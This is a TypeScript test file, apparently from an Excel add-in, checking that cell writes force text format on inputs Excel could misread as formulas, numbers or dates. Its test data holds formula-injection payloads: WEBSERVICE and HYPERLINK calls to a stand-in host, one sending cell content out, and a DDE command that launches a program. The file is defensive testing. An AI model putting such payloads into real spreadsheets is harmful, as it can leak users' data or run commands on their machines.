import fc from "fast-check";
import { maxCellTextLength } from "../../../src/core/cell-value";
import { cellWrite, textFormat } from "../../../src/excel/ranges/cell-write";

/** Texts that some Excel takes for something else than text. */
const treacherous = [
  '=HYPERLINK("https://evil.example","x")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  "=cmd|'/C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "'=1+1",
  "'quoted",
  "%1",
  "|calc",
  "0049151234567",
  "+49 151 2345678",
  "007",
  "1e5",
  "12E3",
  "1-2",
  "3/4",
  "2024-05-01",
  "May 2020",
  "10:30",
  "5%",
  "$5",
  "€5",
  "1,5",
  "１２３",
  "٣٤",
  "TRUE",
  "false",
  "WAHR",
  "VRAI",
  "#N/A",
  "#REF!",
  "{=1+1}",
  "R1C1",
  "(5)",
  "Senior\n=1+1",
  "\u0000=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
];

const plain = ["Ada Lovelace", "Chief Executive Officer", "Müller & Söhne", "東京", "محمد", "a=b", "x@example.com"];

describe("a cell to be written", () => {
  it.each(treacherous)("is made for text before %j is put into it", (text) => {
    expect(cellWrite(text)).toEqual({ value: text, numberFormat: textFormat, isValue: true });
  });

  it.each(plain)("keeps its format for plain words such as %j", (text) => {
    expect(cellWrite(text)).toEqual({ value: text, numberFormat: null, isValue: true });
  });

  it("is emptied by empty text and by errors, and keeps its format then", () => {
    const emptied = { value: "", numberFormat: null, isValue: true };

    expect(cellWrite("")).toEqual(emptied);
    expect(cellWrite({ kind: "error", code: "#N/A", message: "No match." })).toEqual(emptied);
    expect(cellWrite(Number.NaN)).toEqual(emptied);
  });

  it("takes numbers and truth values as such, even where text stood before", () => {
    expect(cellWrite(12.5)).toEqual({ value: 12.5, numberFormat: "General", isValue: true });
    expect(cellWrite(false)).toEqual({ value: false, numberFormat: "General", isValue: true });
  });

  it("takes a date as its serial number, shown as a date in every language", () => {
    expect(cellWrite({ kind: "date", serial: 45_413 })).toEqual({
      value: 45_413,
      numberFormat: "yyyy-mm-dd",
      isValue: true,
    });
  });

  it("cuts text that no cell can hold", () => {
    const { value } = cellWrite("x".repeat(40_000));

    expect(value).toHaveLength(maxCellTextLength);
    expect(value).toMatch(/\[cut\]$/);
  });

  it("never hands Excel text outside a text cell unless it begins with a letter and has no digit", () => {
    const anyText = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.string({ unit: "grapheme" }),
      fc
        .tuple(fc.constantFrom(...Array.from("=+-@'\t\r\n ＝＋－＠0٣")), fc.string())
        .map(([first, rest]) => first + rest),
    );
    fc.assert(
      fc.property(anyText, (text) => {
        const { value, numberFormat } = cellWrite(text);
        const isSafe = text === "" || numberFormat === textFormat || /^\p{L}[^\p{N}\t\r\n]*$/u.test(text);
        return isSafe && value === text;
      }),
      { numRuns: 2_000 },
    );
  });
});
